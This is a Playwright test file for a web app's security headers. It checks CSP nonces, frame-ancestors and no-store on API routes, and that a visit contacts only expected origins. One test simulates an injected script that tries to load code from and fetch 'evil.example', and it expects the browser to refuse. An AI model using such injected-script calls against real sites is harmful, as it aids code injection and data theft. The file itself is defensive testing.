import { expect, test } from './fixtures'
import { BLUE, makePng } from './pictures'
import { publishChanges, untilPublished } from './publishing'

test('every page runs only scripts that carry its own nonce, and can be framed by nobody', async ({
  request,
}) => {
  const policies = await Promise.all(
    ['/', '/nowhere'].map(
      async (path) => (await request.get(path)).headers()['content-security-policy'] ?? '',
    ),
  )
  const nonces = policies.map((policy) => /script-src [^;]*'nonce-([^']{20,})'/.exec(policy)?.[1])
  expect(new Set(nonces).size, 'a nonce is used once').toBe(2)
  expect(nonces).not.toContain(undefined)
  for (const policy of policies) {
    expect(policy).toContain("frame-ancestors 'none'")
    expect(policy).toContain("form-action 'self'")
    expect(policy).not.toContain('unsafe-')
  }
})

test('what is not a page runs nothing, and is kept by no cache', async ({ request }) => {
  for (const path of ['/api/health', '/api/account/verify_credentials', '/api/auth/session']) {
    const headers = (await request.get(path)).headers()
    expect(headers['content-security-policy'], path).toContain("default-src 'none'")
    expect(headers['cache-control'], path).toContain('no-store')
    expect(headers['x-content-type-options'], path).toBe('nosniff')
  }
})

test('the health answer names the server and the version, and calls nobody', async ({ request, sandbox }) => {
  const body = await (await request.get('/api/health')).json()
  expect(body).toEqual({
    status: 'ok',
    server: sandbox.origin,
    version: expect.stringMatching(/^\d+\.\d+\.\d+$/),
  })
})

test('a whole visit asks nobody but this site and the server a person signs in at', async ({
  page,
  account,
  sandbox,
  signIn,
  baseURL,
}) => {
  const recorded = new Set<string>()
  page.context().on('request', (sent) => recorded.add(new URL(sent.url()).origin))
  await signIn(page, account.screen_name)
  await page.getByLabel('Profile photo', { exact: true }).setInputFiles(makePng(500, 400, BLUE))
  await page.getByRole('button', { name: 'Use picture' }).click()
  await expect(page.getByText(/^(Prepared:|Fits as it is:)/).first()).toBeVisible()
  await publishChanges(page)
  await untilPublished(page)
  for (const path of ['/history', '/looks', '/storage', '/profile']) await page.goto(path)
  // What a page makes itself, such as the address of a chosen picture, has no origin of anybody's.
  expect([...recorded].filter((origin) => origin !== 'null').sort()).toEqual([baseURL, sandbox.origin].sort())
})

test.describe('a script that got into a page', () => {
  // The browser complains of each try; that is the point.
  test.use({ expectedProblems: [/./] })

  test('turns no text into code, loads none from elsewhere, and sends nothing away', async ({
    page,
    account,
    signIn,
  }) => {
    await signIn(page, account.screen_name)
    const tries = await page.evaluate(async () => {
      const attempt = (work: () => unknown) => {
        try {
          work()
          return 'done'
        } catch (failure) {
          return failure instanceof Error ? failure.name : 'refused'
        }
      }
      const script = () => document.createElement('script')
      return {
        html: attempt(() => Reflect.set(document.createElement('div'), 'innerHTML', '<b>bold</b>')),
        inline: attempt(() => Reflect.set(script(), 'text', 'window.isIn = true')),
        foreign: attempt(() => Reflect.set(script(), 'src', 'https://evil.example/a.js')),
        // A moment later: what a test itself runs may evaluate, whatever the policy says.
        evaluated: await new Promise((tried) =>
          setTimeout(() => tried(attempt(() => Reflect.construct(Function, ['return 1'])))),
        ),
        sent: await fetch('https://evil.example/').then(
          () => 'done',
          () => 'refused',
        ),
      }
    })
    expect(Object.entries(tries).filter(([, outcome]) => outcome === 'done')).toEqual([])
  })
})

/** What React sends of a page for its code to read, by the number of the row; rows that are no JSON hold no elements. */
function rowsOf(html: string): Map<string, unknown> {
  const calls = html.matchAll(/self\.__next_f\.push\(\[1,("(?:[^"\\]|\\.)*")\]\)/g)
  const whole = [...calls].map(([, text]) => JSON.parse(text ?? '""') as string).join('')
  const rows = new Map<string, unknown>()
  for (const row of whole.split('\n')) {
    const [number = '', ...rest] = row.split(':')
    try {
      rows.set(number, JSON.parse(rest.join(':')))
    } catch {}
  }
  return rows
}

/**
 * True where some of this may come later than the rest: `$L` and a number stand for another row that need not be there
 * yet. A `$` and a number stand for one that is waited for, so what that holds counts too.
 */
function isInPieces(value: unknown, rows: Map<string, unknown>): boolean {
  if (typeof value !== 'string') return partsOf(value).some((part) => isInPieces(part, rows))
  const [, number] = /^\$([0-9a-f]+)$/.exec(value) ?? []
  return /^\$L[0-9a-f]+$/.test(value) || (number !== undefined && isInPieces(rows.get(number), rows))
}

const partsOf = (value: unknown): unknown[] =>
  typeof value === 'object' && value !== null ? Object.values(value) : []

/** All elements of these kinds in a row: `["$", kind, key, props]`. */
function elementsOf(kinds: string[], value: unknown): unknown[] {
  const own = Array.isArray(value) && value[0] === '$' && kinds.includes(value[1]) ? [value[3]] : []
  return [...own, ...partsOf(value).flatMap((part) => elementsOf(kinds, part))]
}

/** Drawings and words for who has no scripts: how many there are on a page, and which of them come in pieces. */
function wholesOf(html: string): { count: number; inPieces: unknown[] } {
  const rows = rowsOf(html)
  const elements = [...rows.values()].flatMap((row) => elementsOf(['svg', 'noscript'], row))
  return { count: elements.length, inPieces: elements.filter((element) => isInPieces(element, rows)) }
}

test('no drawing, and no words for who has no scripts, is sent in two pieces, of which the later would have no place', async ({
  page,
  sandbox,
  startSession,
}) => {
  const { screen_name } = await sandbox.createAccount()
  await startSession(page, screen_name)
  // Where a part of a page ends depends on how much stands before it.
  for (const url of ['', `https://wren.example/${'h'.repeat(70)}`]) {
    for (let letters = 0; letters <= 160; letters += 8) {
      const location = '🦜'.repeat(Math.min(letters, 30))
      await sandbox.changeAccount(screen_name, { description: '🦜'.repeat(letters), location, url })
      const { count, inPieces } = wholesOf(await (await page.request.get('/profile')).text())
      expect(count).toBeGreaterThan(5)
      expect(inPieces, `a bio of ${letters}`).toEqual([])
    }
  }
  for (const path of ['/', '/history', '/looks', '/storage', '/help', '/nowhere']) {
    const { count, inPieces } = wholesOf(await (await page.request.get(path)).text())
    expect(count, path).toBeGreaterThan(0)
    expect(inPieces, path).toEqual([])
  }
})
